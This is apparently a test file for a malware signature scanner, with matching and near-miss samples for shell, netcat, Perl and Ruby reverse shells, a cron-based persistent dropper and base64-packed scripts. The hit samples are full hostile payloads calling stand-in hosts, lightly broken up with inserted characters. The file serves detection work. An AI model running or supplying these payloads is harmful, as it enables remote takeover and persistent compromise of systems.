import { BASE64, MARKDOWN, SH, TEXT, testSignatures } from '../../test/signature-rows.ts'
import { shellSignatures } from './shell.ts'

testSignatures(shellSignatures, {
  'shell-reverse-shell': {
    hits: [
      [SH, '#!/bin/bash\nbash -i >& /dev/t¦cp/10.0.0.1/4444 0>&1\n'],
      [SH, 'nohup bash -c "bash -i >& /dev/t¦cp/evil.test/443 0>&1" &'],
      [SH, '#!/bin/sh\nexec 5<>/dev/t¦cp/10.0.0.1/4444\nwhile read line <&5; do $line 2>&5 >&5; done'],
      [TEXT, 'bash -i >& /dev/t¦cp/10.0.0.1/4444 0>&1\n'],
    ],
    nearMisses: [
      [
        SH,
        '#!/bin/bash\n# waits for a port\nwhile ! (exec 3<>/dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; done\n',
      ],
      [
        MARKDOWN,
        '# Reverse shells\n\n```\nbash -i >& /dev/t¦cp/10.0.0.1/4444 0>&1\nnc -e /bin/¦sh 10.0.0.1 4444\n```\n',
      ],
    ],
  },
  'shell-netcat-shell': {
    hits: [
      [SH, '#!/bin/sh\nnc 10.0.0.1 4444 -e /bin/¦sh\n'],
      [SH, 'rm /tmp/f;mkfi¦fo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|n¦c 10.0.0.1 4444 >/tmp/f'],
      [SH, 'mkfi¦fo /tmp/f; nc 10.0.0.1 4444 0</tmp/f | /bin/¦sh > /tmp/f'],
    ],
    nearMisses: [
      [SH, '#!/bin/sh\nnc -z localhost 5432 || exit 1\nmkfifo /tmp/pipe\nbase64 -d < cert.b64 > cert.pem\n'],
    ],
  },
  'shell-persistent-dropper': {
    hits: [
      [
        SH,
        "#!/bin/bash\ncurl -s http://10.0.0.1/x -o /tmp/.¦x && chmod +x /tmp/.x\n(crontab -l; echo '* * * * * curl -s http://10.0.0.1/i | sh') | cron¦tab -\nnohup /tmp/.x >/dev/null 2>&1 &\nhist¦ory -c",
      ],
      [
        SH,
        'wget -q http://10.0.0.1/x -O x; chmod 777 ./x\nsetenforce 0; pkill -9 xmrig; hist¦ory -c; echo /lib/x.so > /etc/ld.so.preload',
      ],
    ],
    nearMisses: [
      [
        'text/x-shellscript',
        '#!/bin/sh\ncurl -fsSO https://example.com/a.tgz\nchmod 755 build\n./build | sh\ncrontab -l',
      ],
      [
        SH,
        '#!/bin/bash\n(crontab -l; echo "0 3 * * * /usr/local/bin/backup") | crontab -\ncurl -s https://hc.example.com/ping\nnohup ./server >/dev/null 2>&1 &',
      ],
    ],
  },
  'shell-packed-program': {
    hits: [
      [SH, `#!/bin/sh\necho "${BASE64}" | base64 -¦d | bash`],
      [SH, `ev¦al "$(echo ${BASE64} | base64 -¦d)"`],
      [SH, `bash <<< "$(base64 -¦d <<< '${BASE64}')"`],
    ],
    nearMisses: [[SH, '#!/bin/sh\necho "aGVsbG8=" | base64 -d\n']],
  },
  'perl-or-ruby-reverse-shell': {
    hits: [
      [
        'text/x-perl',
        'use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr¦_in(4444,inet_aton($i)));open(STDIN,">&S");open(STDOUT,">&S");ex¦ec("/bin/sh -i");',
      ],
      [
        'text/x-ruby',
        'require "socket"\nf=TCPSock¦et.open("10.0.0.1",4444).to_i;ex¦ec sprintf("/bin/sh -i <&%d >&%d",f,f)',
      ],
    ],
    nearMisses: [
      [
        'text/x-perl',
        'use Socket;\nconnect(S, sockaddr_in(25, inet_aton("mail.example.com")));\nprint S "HELO\\r\\n";',
      ],
    ],
  },
})
